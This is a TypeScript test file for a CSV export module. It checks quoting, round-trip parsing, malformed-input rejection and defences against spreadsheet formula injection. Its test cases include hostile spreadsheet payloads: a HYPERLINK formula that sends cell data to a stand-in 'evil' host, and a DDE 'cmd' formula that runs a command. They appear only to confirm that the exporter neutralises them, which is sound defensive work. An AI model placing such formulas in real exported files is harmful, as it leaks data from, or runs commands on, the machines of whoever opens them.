import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvCell, csvLine, CsvReader, csvValue } from './csv.ts'

describe('a cell', () => {
  test.each([
    { value: 'plain', want: 'plain' },
    { value: null, want: '' },
    { value: 0, want: '0' },
    { value: 'a,b', want: '"a,b"' },
    { value: 'say "hi"', want: '"say ""hi"""' },
    { value: 'two\r\nlines', want: '"two\r\nlines"' },
    { value: '=HYPERLINK("http://evil/?"&A1,"x")', want: '"\'=HYPERLINK(""http://evil/?""&A1,""x"")"' },
    { value: "=cmd|' /C calc'!A0", want: "'=cmd|' /C calc'!A0" },
    { value: '+1', want: "'+1" },
    { value: '-2+3', want: "'-2+3" },
    { value: '@SUM(1)', want: "'@SUM(1)" },
    { value: '\t=1', want: "'\t=1" },
    { value: '\r=1', want: '"\'\r=1"' },
    { value: '＝1', want: "'＝1" },
    { value: "'=1", want: "''=1" },
    { value: "it's", want: "it's" },
  ])('$value', ({ value, want }) => {
    expect(csvCell(value)).toBe(want)
  })

  test('no cell begins as a formula does, and each can be read back', () => {
    const hostile = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '"', ',', '\r', '\n', '\t', "'", 'a', '＝') })
    fc.assert(
      fc.property(
        fc.array(fc.array(hostile, { minLength: 1, maxLength: 5 }), { maxLength: 5 }),
        fc.nat(7),
        (rows, step) => {
          const text = rows.map((row) => csvLine(row)).join('')
          const reader = new CsvReader(1_000)
          const read: string[][] = []
          for (let at = 0; at < text.length; at += step + 1) read.push(...reader.push(text.slice(at, at + step + 1)))
          reader.end()
          expect(read.map((row) => row.map(csvValue))).toEqual(rows)
          for (const cell of read.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\uff1d]/)
        },
      ),
    )
  })
})

test.each(['a"b\r\n', 'a\n', '"a"b\r\n', 'a\rb', '"a', 'a'])('%j is refused', (text) => {
  const reader = new CsvReader(100)
  expect(() => {
    reader.push(text)
    reader.end()
  }).toThrow(expect.objectContaining({ code: 'EXPORT_INVALID' }))
})

test('a row has an end', () => {
  for (const text of ['x'.repeat(200), `"${'x'.repeat(200)}`, '"a",'.repeat(200)])
    expect(() => new CsvReader(100).push(text)).toThrow('more than 100')
})
